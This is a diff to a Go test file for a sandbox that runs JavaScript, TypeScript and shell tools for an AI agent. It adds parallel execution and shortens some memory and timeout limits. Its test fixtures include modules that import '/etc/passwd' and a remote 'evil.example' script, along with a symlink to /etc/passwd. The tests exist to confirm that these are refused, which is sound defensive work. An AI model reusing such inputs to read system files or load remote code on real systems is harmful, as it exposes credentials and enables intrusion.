@@ -127,6 +127,7 @@ export default {};
 `
 
 func TestModules(t *testing.T) {
+	t.Parallel()
 	h := host(t, bundle(t, map[string]string{
 		"tools/a.ts": typed, "tools/lib/twice.ts": "export const twice = (n: number): number => n * 2;",
 		"old.js":                              "export default { do: (ctx, i) => ({ old: i.n }) };",
@@ -156,6 +157,7 @@ func TestModules(t *testing.T) {
 
 // What modules do wrong is the error of one call, and the next call works.
 func TestModulesFail(t *testing.T) {
+	t.Parallel()
 	const ok = "export const handlers = { do: () => 1 };"
 	root := bundle(t, map[string]string{
 		"ok.js":  ok,
@@ -189,7 +191,7 @@ func TestModulesFail(t *testing.T) {
 		"abs.ts":     `import x from "/etc/passwd"; export const handlers = { do: () => x };`,
 		"far.ts":     `import x from "https://evil.example/x.js"; export const handlers = { do: () => x };`,
 	})
-	h := host(t, root, withNode(t), func(c *Config) { c.Limits.Memory = 192 << 20; c.Now = forward() })
+	h := host(t, root, withNode(t), func(c *Config) { c.Limits.Memory = 128 << 20; c.Now = forward() })
 	good := tool(t, h, Resource{Name: "ok", Runtime: Node, Entry: "ok.js"})
 	wantOutput(t, run(t, t.Context(), tool(t, h, Resource{Name: "log", Runtime: Node, Entry: "log.js"}), `{}`), "1")
 	for entry, want := range map[string]struct {
@@ -259,6 +261,7 @@ func export(t testing.TB, h *Host, name string, limit time.Duration) agent.Tool 
 
 // A call that is given up leaves the others alone if the worker still answers.
 func TestGivenUp(t *testing.T) {
+	t.Parallel()
 	h := host(t, bundle(t, map[string]string{"slow.js": slow}), withNode(t), func(c *Config) { c.Limits.Alive = patience })
 	wantOutput(t, run(t, t.Context(), export(t, h, "seen", 0), `{}`), "false")
 	ctx, cancel := context.WithCancel(t.Context())
@@ -275,7 +278,8 @@ func TestGivenUp(t *testing.T) {
 
 // A worker that does not answer any more is ended, and the next call has a new one.
 func TestHung(t *testing.T) {
-	h := host(t, bundle(t, map[string]string{"slow.js": slow}), withNode(t), func(c *Config) { c.Limits.Alive = time.Second })
+	t.Parallel()
+	h := host(t, bundle(t, map[string]string{"slow.js": slow}), withNode(t), func(c *Config) { c.Limits.Alive = 200 * time.Millisecond })
 	wantOutput(t, run(t, t.Context(), export(t, h, "seen", 0), `{}`), "false")
 	wantError(t, run(t, t.Context(), export(t, h, "hang", 100*time.Millisecond), `{}`), agent.ErrTimeout, "given up after 100ms")
 	wantOutput(t, run(t, t.Context(), export(t, h, "seen", 0), `{}`), "false")
@@ -283,6 +287,7 @@ func TestHung(t *testing.T) {
 
 // A module is loaded anew when one of its files changes, or one that was missing comes.
 func TestReload(t *testing.T) {
+	t.Parallel()
 	root := bundle(t, map[string]string{
 		"a.ts":     `import { v } from "./lib/v"; let n = 0; export const handlers = { do: () => [v, ++n], slow: async () => { await new Promise((r) => setTimeout(r, 200)); return v; } };`,
 		"lib/v.js": "export const v = 1;",
@@ -321,6 +326,7 @@ func TestReload(t *testing.T) {
 
 // An executable that was changed is not run without being agreed to, whoever changed it.
 func TestApprovingExecutables(t *testing.T) {
+	t.Parallel()
 	root := bundle(t, map[string]string{"x": "#!/bin/sh\necho 1\n"})
 	first := ""
 	h := host(t, root, func(c *Config) {
@@ -339,6 +345,7 @@ func TestApprovingExecutables(t *testing.T) {
 }
 
 func TestAnswersLater(t *testing.T) {
+	t.Parallel()
 	const code = `import { pending } from "dure";
 		export const handlers = {
 			do: (ctx, i) => { const p = pending("build-1", "it builds"); setTimeout(() => i.fail ? p.reject(new Error("broken")) : p.resolve({ ok: 1 }), i.wait); return p; },
@@ -375,6 +382,7 @@ func TestAnswersLater(t *testing.T) {
 }
 
 func TestProcesses(t *testing.T) {
+	t.Parallel()
 	prooftest.Program(t, "sh")
 	root := bundle(t, map[string]string{
 		"echo":   "#!/bin/sh\nread line\necho \"$line\" | sed 's/.*\"input\":\\({[^}]*}\\).*/\\1/'\n",
@@ -402,10 +410,11 @@ func TestProcesses(t *testing.T) {
 	wantError(t, call("fail", 0), agent.ErrTool, "exit code 4\noh")
 	wantError(t, call("says", 0), "E_CHANNEL", "no channel")
 	wantError(t, call("hang", 100*time.Millisecond), agent.ErrTimeout, "given up after 100ms")
-	wantError(t, call("flood", 2*time.Second), agent.ErrTimeout, "given up")
+	wantError(t, call("flood", 500*time.Millisecond), agent.ErrTimeout, "given up")
 }
 
 func TestOtherRuntimes(t *testing.T) {
+	t.Parallel()
 	h := host(t, t.TempDir(), func(c *Config) {
 		c.Builtins = map[string]Func{
 			"do": func(_ context.Context, tc agent.ToolContext, in json.RawMessage) (any, error) {
@@ -442,6 +451,7 @@ func TestOtherRuntimes(t *testing.T) {
 }
 
 func TestResourcesRefused(t *testing.T) {
+	t.Parallel()
 	root := bundle(t, map[string]string{"ok.js": ""})
 	prooftest.Link(t, os.Symlink("/etc/passwd", filepath.Join(root, "link.js")))
 	h := host(t, root)
@@ -470,6 +480,7 @@ func TestResourcesRefused(t *testing.T) {
 }
 
 func TestCheck(t *testing.T) {
+	t.Parallel()
 	h := host(t, bundle(t, map[string]string{
 		"a.js": "export const handlers = { x: () => 1, y: 2 };",
 		"b.js": "export default { x: () => 1 };",
@@ -484,6 +495,7 @@ func TestCheck(t *testing.T) {
 }
 
 func TestShortened(t *testing.T) {
+	t.Parallel()
 	long := strings.Repeat("가", 1200)
 	for most, want := range map[int]string{
 		1000: strings.Repeat("가", 985) + cutMark,
